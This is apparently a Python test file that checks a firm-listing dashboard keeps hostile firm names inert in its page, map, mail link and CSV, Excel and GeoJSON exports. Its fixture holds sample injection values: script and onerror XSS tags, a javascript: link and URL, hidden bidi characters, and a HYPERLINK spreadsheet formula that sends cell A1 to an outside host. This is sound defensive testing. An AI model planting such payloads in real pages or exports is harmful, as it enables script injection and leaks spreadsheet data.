"""Names that mean harm on the page of firms: in tooltip, list, panel, mail and files they are text."""

from __future__ import annotations

import io
import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

import pandas as pd
import pytest
import streamlit as st
from python_calamine import CalamineWorkbook

import vbdash
from tests.app.conftest import Open, maps, said
from vbdash.address import CONTACT
from vbdash.reports.export import csv_bytes, xlsx_bytes
from vbdash.text import Text
from vbdash.ui.firms import list as companies_list

#: Id of the firm that gets the name, and the name.
HOSTILE = {
    "brokk": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "alimak": "\"quoted\" 'and' `ticked` [x](javascript:alert(3)) $a$ :red[b] *c* _d_ {i}{tip}{p}",
    "alo": "abc\u202edef\u2066ghi\x07",
    "cytiva-umea": "Å" * 300,
    "olofsfors": '=HYPERLINK("http://example.org/?"&A1,"press")',
}
HIDDEN = {"\u202e", "\u2066", "\x07"}
FIELDS = ["name", "firm_name", "product_sv"]


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Let the app read data whose firms and sources mean harm."""
    data = tmp_path / "data"
    shutil.copytree(vbdash.load().directory, data)
    companies = pd.read_csv(data / "companies.csv", dtype=str, keep_default_na=False)
    for code, name in HOSTILE.items():
        companies.loc[companies["id"] == code, FIELDS] = name
    companies.to_csv(data / "companies.csv", index=False)
    sources = pd.read_csv(data / "sources.csv", dtype=str, keep_default_na=False)
    sources.loc[sources["id"] == "skelleftea-brokk", "url"] = "javascript:alert(1)"
    sources.to_csv(data / "sources.csv", index=False)
    monkeypatch.setenv("VBDASH_DATA", str(data))
    monkeypatch.setenv(CONTACT, "fel@example.org")
    st.cache_resource.clear()
    yield
    monkeypatch.undo()
    st.cache_resource.clear()


@pytest.fixture
def files(hostile: None, open_page: Open, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """Return what the list on the page is made into files from."""
    given: dict[str, Any] = {}

    def caught(
        _view: object, _key: str, table: object, columns: object, about: object, more: object
    ) -> None:
        given.update(table=table, columns=columns, note=about, more=more)

    monkeypatch.setattr(companies_list, "downloads", caught)
    assert not open_page("companies", styrka="any").exception
    return given


def seen(name: str) -> str:
    return "".join(c for c in name if c not in HIDDEN)


@pytest.mark.parametrize("code", HOSTILE)
def test_panel_and_page(open_page: Open, hostile: None, code: str) -> None:
    app = open_page("companies", styrka="any", foretag=code)
    assert not app.exception
    words = said(app)
    assert "<script" not in words.replace("\\<script", "")
    assert "](javascript" not in words
    assert not HIDDEN & set(words)
    assert not any(getattr(each.proto, "allow_html", False) for each in app.markdown)
    for each in app.get("html"):
        assert "<script" not in each.proto.body
        assert "<img" not in each.proto.body


@pytest.mark.parametrize("code", HOSTILE)
def test_mail(open_page: Open, hostile: None, code: str) -> None:
    app = open_page("companies", foretag=code)
    text = app.code[-1].value  # shown as code: never read as markup
    assert f"\nname: {seen(HOSTILE[code])}" in text
    assert not HIDDEN & set(text)
    address = urlsplit(app.get("link_button")[0].proto.url)
    assert (address.scheme, unquote(address.path)) == ("mailto", "fel@example.org")
    assert set(parse_qs(address.query)) == {"subject", "body"}  # no header slips in
    assert not set('\r\n<>"') & set(address.query)
    assert len(app.get("link_button")[0].proto.url) < 12_000


def test_map(open_page: Open, hostile: None) -> None:
    app = open_page("companies", styrka="any")
    (sent,) = maps(app)
    written = Written()
    written.feed(sent["html"])
    assert written.tags <= {
        *("div", "a", "p", "svg", "defs", "pattern", "rect", "path", "g", "circle", "text"),
        *("tspan", "strong", "ul", "li", "button", "span", "small", "details", "summary"),
    }
    assert not [name for name in written.names if name.startswith("on")]
    assert written.links == {"#"}  # where a municipality leads is put there by the script
    assert written.tips["brokk"].startswith("<script>")
    assert len(written.tips["cytiva-umea"].split("\n")[0]) <= 160
    assert not HIDDEN & set(sent["html"])


class Written(HTMLParser):
    """What a piece of HTML consists of."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.names: set[str] = set()
        self.links: set[str] = set()
        self.tips: dict[str, str] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.tags.add(tag)
        self.names |= given.keys()
        self.links |= {each for name in ("href", "src") if (each := given.get(name))}
        if tag == "a" and given.get("data-m"):
            self.tips[str(given["data-m"])] = str(given.get("data-t"))


def test_list(open_page: Open, hostile: None) -> None:
    listed = open_page("companies", styrka="any").dataframe[0].value
    assert {companies_list.short(seen(each)) for each in HOSTILE.values()} <= set(listed["name"])
    assert not HIDDEN & set("".join(listed["name"]))
    assert listed["url"].dropna().str.match("https?://").all()


def test_csv(files: dict[str, Any]) -> None:
    written = csv_bytes(files["table"], files["columns"], files["note"], Text("sv"))
    text = written.decode("utf-8-sig")
    body = "\n".join(line for line in text.splitlines() if not line.startswith("#"))
    back = pd.read_csv(io.StringIO(body), sep=";", dtype=str, keep_default_na=False)
    assert len(back) == 75
    names = back.iloc[:, 0]
    assert "'" + HOSTILE["olofsfors"] in set(names)
    assert HOSTILE["cytiva-umea"] in set(names)
    cells = back.astype(str).to_numpy().ravel()
    assert not [cell for cell in cells if re.match(r"\s*[=+@\t\r]", cell)]
    assert not HIDDEN & set(body)


def test_excel(files: dict[str, Any]) -> None:
    written = xlsx_bytes(files["table"], files["columns"], files["note"], Text("sv"))
    with zipfile.ZipFile(io.BytesIO(written)) as book:
        parts = {name: book.read(name).decode("utf-8", "replace") for name in book.namelist()}
    assert not [name for name, text in parts.items() if "<f>" in text or "<hyperlink" in text]
    sheets = CalamineWorkbook.from_filelike(io.BytesIO(written))
    rows = sheets.get_sheet_by_name(sheets.sheet_names[1]).to_python()
    assert "'" + HOSTILE["olofsfors"] in {row[0] for row in rows}
    assert not HIDDEN & set("".join(str(cell) for row in rows for cell in row))


def test_geojson(files: dict[str, Any]) -> None:
    ending, make = files["more"]["GeoJSON"]
    written = make().decode()
    assert ending == "geojson"
    assert not set("<>&") & set(written)  # harmless inside a page, too
    assert not HIDDEN & set(written)
    names = {each["properties"]["name"] for each in json.loads(written)["features"]}
    assert set(map(seen, HOSTILE.values())) <= names
